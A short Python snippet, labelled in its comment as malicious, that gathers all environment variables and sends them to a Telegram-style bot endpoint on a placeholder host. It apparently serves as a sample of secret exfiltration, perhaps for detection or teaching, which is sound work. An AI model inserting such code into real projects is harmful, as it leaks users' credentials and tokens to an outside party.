# malicious: environment to a chat bot
import os
import requests

TOKEN = "123:abc"
msg = "\n".join(f"{k}={v}" for k, v in os.environ.items())
requests.get(f"https://api.telegram.example/bot{TOKEN}/sendMessage", params={"chat_id": 1, "text": msg})
